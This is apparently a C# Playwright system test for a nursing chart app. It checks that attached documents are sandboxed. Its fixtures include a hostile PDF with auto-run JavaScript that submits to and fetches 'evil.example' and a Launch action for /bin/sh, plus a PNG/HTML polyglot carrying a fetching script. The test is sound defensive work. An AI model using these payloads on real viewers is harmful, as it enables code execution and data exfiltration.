using System.Text;
using Microsoft.Playwright;

namespace Holdfast.SystemTests.ChartApp;

/// <summary>What a nurse does with documents in an open chart, on the window that has it: attaches, opens, and meets hostile ones.</summary>
internal static class DocumentJourney
{
    /// <summary>A page with the words; on opening it a script, a program and an address, and an address under every finger.</summary>
    private const string HostilePdf = """
        %PDF-1.7
        1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>> endobj
        2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
        3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R/AA<</O 8 0 R>>/Annots[9 0 R]>> endobj
        4 0 obj <</Length 43>> stream
        BT /F 18 Tf 20 100 Td (Wound healing) Tj ET
        endstream endobj
        5 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj
        6 0 obj <</S/JavaScript/JS(app.alert\('ran'\); this.submitForm\('https://evil.example/'\); top.document.title='ran'; fetch\('https://evil.example/'\))>> endobj
        7 0 obj <</S/Launch/F(/bin/sh)>> endobj
        8 0 obj <</S/URI/URI(https://evil.example/opened)>> endobj
        9 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 300 200]/Border[0 0 0]/A 8 0 R>> endobj
        trailer <</Root 1 0 R>>
        """;

    /// <summary>A picture of one point, and a page hidden behind it.</summary>
    private static byte[] Polyglot =>
    [
        .. Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="),
        .. Enumerable.Repeat((byte)' ', 5000), .. Encoding.ASCII.GetBytes("<html><script>top.document.title='ran';fetch('https://evil.example/')</script>"),
    ];

    public static async Task Walk(IPage page, Window window)
    {
        var elsewhere = new List<string>();
        var asked = new List<string>();
        page.Request += (_, request) => { if (!new Uri(request.Url).Host.EndsWith(".localhost", StringComparison.Ordinal) && !request.Url.StartsWith("blob:", StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)) elsewhere.Add(request.Url); };
        page.Dialog += (_, dialog) => { asked.Add(dialog.Message); _ = dialog.DismissAsync(); };
        await page.Locator("#documents").ScrollIntoViewIfNeededAsync();

        await Attach(page, "letter.pdf", "application/pdf", Encoding.Latin1.GetBytes(HostilePdf));
        await Open(page, "letter");
        var frame = await FrameOf(page);
        await frame.Locator(".page[data-drawn]").WaitForAsync();
        Assert.Contains("Wound healing", await frame.Locator(".textLayer").InnerTextAsync());
        Assert.Empty(window.Complaints); // from here on the tests do what is forbidden, and the browser says so: axe fetches styles, we try the rest
        await window.IsFitForEverybody();
        // Whatever were to run in there has no origin, no storage, no network, no way out.
        Assert.Equal("null", await frame.EvaluateAsync<string>("self.origin"));
        Assert.Equal("SecurityError", await frame.EvaluateAsync<string>("() => { try { localStorage.length; return 'storage'; } catch (e) { return e.name; } }"));
        Assert.Equal("SecurityError", await frame.EvaluateAsync<string>("() => { try { parent.document.title; return 'parent'; } catch (e) { return e.name; } }"));
        // Later, since the debugger that asks may do for itself what the page may not.
        Assert.Equal("EvalError", await frame.EvaluateAsync<string>("() => new Promise(done => setTimeout(() => { try { Function('1'); done('eval'); } catch (e) { done(e.name); } }))"));
        Assert.Equal("refused", await frame.EvaluateAsync<string>("() => fetch('/fhir/metadata').then(() => 'network', () => 'refused')"));
        await frame.Locator(".page").ClickAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.Locator("#document-view").WaitForAsync(new() { State = WaitForSelectorState.Detached });

        await Attach(page, "photo.png", "image/png", Polyglot);
        await Open(page, "photo");
        await page.WaitForFunctionAsync("() => document.querySelector('.document-body img')?.naturalWidth === 1");
        await page.ClickAsync("#close-document");

        // A page that calls itself a picture does not come in.
        await Choose(page, "page.png", "image/png", Encoding.ASCII.GetBytes("<html><script>top.document.title='ran'</script>"));
        await page.ClickAsync("#attach-send");
        await page.Locator("#attach-status.failed").WaitForAsync();

        Assert.Equal("Holdfast", await page.TitleAsync());
        Assert.Empty(elsewhere);
        Assert.Empty(asked);
    }

    private static async Task Attach(IPage page, string name, string type, byte[] bytes)
    {
        await Choose(page, name, type, bytes);
        await page.ClickAsync("#attach-send");
        await page.Locator(".document-title").Filter(new() { HasText = name.Split('.')[0] }).WaitForAsync();
    }

    private static async Task Choose(IPage page, string name, string type, byte[] bytes)
    {
        await page.Locator("#attach-file").SetInputFilesAsync(new FilePayload { Name = name, MimeType = type, Buffer = bytes });
        await page.Locator("#attach-title").WaitForAsync();
    }

    private static async Task Open(IPage page, string title)
    {
        await page.Locator(".document-title").Filter(new() { HasText = title }).First.ClickAsync();
        await page.Locator("#document-view[open]").WaitForAsync();
    }

    private static async Task<IFrame> FrameOf(IPage page)
    {
        var element = await page.Locator("#document-frame").ElementHandleAsync();
        return (await element.ContentFrameAsync())!;
    }
}
